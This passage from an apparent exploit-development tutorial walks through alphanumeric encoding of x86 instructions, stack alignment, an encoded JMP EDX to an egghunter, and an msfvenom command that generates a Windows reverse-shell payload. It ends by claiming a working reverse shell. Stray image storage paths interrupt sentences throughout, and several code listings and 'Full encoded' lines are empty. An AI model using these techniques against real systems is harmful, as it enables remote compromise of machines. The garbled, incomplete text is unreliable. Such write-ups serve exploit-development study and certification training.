So this is going to be 10 bytes to zero out EAX. Let’s take care of encoding this now. The process is going to be start with a zero value, then subtract three times from that value until we end up at the two’scompliment of the reversed desired value. Don’t worry if it doesn’t make sense yet.

Encoding Our Value

So let’s manually encode one value, and then we’ll leverage a tool to help us out. So we want the following address in memory: 0012FAF0. In little endian, this is going to be \xF0\xFA\x12\x00.

So we need the two’s compliment of the reverse of this value. Reversed, we get the original \x00 \x12 \xFA \xF0.

Now, let’s get the value for the two’s compliment. Easy way to do this:


With that, we know the decimal value of 0012FAF0:

0012FAF0 = 1243888


4294967296 - 1243888 = 4293723408

Now, 4293723408 in hex is FFED0510.

So now, we can divide by three, and end up with our desired value. The headers include the original byte, then the three rows below show values that if added together will reach the desired value. Note that the byte three column is 104, thus byte two column we’re only calculating \xEC as the 1 carrying over will give us \xED:

Byte One — \xFF Byte Two — \xED Byte Three — \x05 Byte Four — \x10
\x55 \x4E \x56 \x5A
\x55 \x4E \x56 \x5A
\x55 \x50 \x58 \x5C

So if we encode this, we get:

%JMNU : \x25\x4a\x4d\x4e\x55 : AND EAX,0x554E4D4A
%521* : \x25\x35\x32\x31\x2a : AND EAX,0x2A313235
-ZVNU : \x2d\x5a\x56\x4e\x55 : SUB EAX,0x554e565a
-ZVNU : \x2d\x5a\x56\x4e\x55 : SUB EAX,0x554e565a
-\XPU : \x2d\x5c\x58\x50\x55 : SUB EAX,0x5550585cP : \x50 : PUSH EAX
Full encoded string:
Full encoded hex:

So this gets us zero’d out EAX, and the value of our shellcode, we now need to PUSH EAX, POP EDX.

If we update our exploit, we now have the following. Note how we have four B’s, as NOP’s, in front of our decoder. Because we may not land either at B number one or B number three, we use this small NOP sled to allow both jumps to function:

As a result, we use 27 to get our shellcode location into EDX. Next, we need to align the stack below us, by first pushing ESP then POP’ing it into EAX:

PUSH ESP opcode — \x54
POP EAX opcode — \x58

So where should we align the stack to and decode our JMP EDX to? Well, we want it to be amultiple of four, and we have a bit of space below our decoder still. Because we have a fair bit still to decode, and there is a lot of overhead, we’ll want to start at the bottom, perhaps even overwriting our conditional jumps. Looking at it though, we’ll try a bit above our conditional, and hope it works. In our case, we’ll use:

0012FBF8 42 INC EDX

If we need to, we can always adjust by four. So if we want to be at 0012FBF8, where is ESP.

ESP 0012F5C0

That doesn’t look too bad, that’s a difference of (h at the end to note this a hex value):

0012F5C0 (ESP) - 0012FBF8 (Target) = FFFFF9C8

Thus, let’s calculate a subtraction value for this:/ 03
55 55 53 42
55 55 53 42
55 55 53 44

We need to then subtract these in reverse order, to get our correct value. Verifying that things are working so far in Immunity, we first see if we get our shellcode location in EAX:

Nice! That worked. Now let’s see if we get our decoding location:

Nice! We got to our location. You’ll notice that I got the math wrong a few times,which is why there is a difference between the instructions in the top and bottom image. That’s why I’m writing this, to document the correct way to do the math!

This gives us the following code:

Nice, one last piece, let’s encode our JMP EDX, which is how we’ll jump to our egghunter. JMP EDX is \xFF\xE2, but we want it to be a DWORD (4 bytes), so we’ll use \xFF\xE2\x90\x90.

Now that we’ve covered encoding manually, let’s use Mona. Note that FF and E2 occur in the correct order, not reversed. This is because they are a singular command

!mona encode -t alphanum -s '\x90\x90\xFF\xE2'

gives us:

%JMNU : \x25\x4a\x4d\x4e\x55 : AND EAX,0x554E4D4A
%521* : \x25\x35\x32\x31\x2a : ANDEAX,0x2A313235
-%%_U : \x2d\x25\x25\x5f\x55 : SUB EAX,0x555f2525
-%%_U : \x2d\x25\x25\x5f\x55 : SUB EAX,0x555f2525
-&%_U : \x2d\x26\x25\x5f\x55 : SUB EAX,0x555f2526
P : \x50 : PUSH EAX
Full encoded string:
Full encoded hex:

With this in place, we now can decode our value:

Nice! Now we run everything and see that we decode our jump properly. Problem though, B’s are an INC EDX instruction. We need to change B’s to something else. Let’s use C’s. If we don’t then by the time we take our JMP, it’s going to be the wrong address. After changing to C’s, which are INC EBX, we take ourjump and decode our egghunter.

With it correctly decoding, we now have the following code:

With our jump in place and properly decoding, we are missing the most crucial part of this exploit — our egg and our payload. As a result, let’s build a reverse shell, and add our egg in front of it.

msfvenom -p windows/shell_reverse_tcp LHOST= LPORT=4444 -e x86/alpha_mixed -a x86 --platform windows -f py -v revshell

With the reverse shell code generated, we add ‘w00tw00t’ in front of the payload, and then add it to our payload where we have our D’s.

This leaves us with the following final exploit:

Which gives us a working reverse shell!

Working reverse shell

Kevin KirscheAuthor Kevin Kirsche

Kevin is a Principal Security Architect with Verizon. He holds the OSCP, OSWP, OSCE, and SLAE certifications. He is interested in learning more aboutbuilding exploits and advanced penetration testing concepts.More posts by Kevin Kirsche

Leave a Reply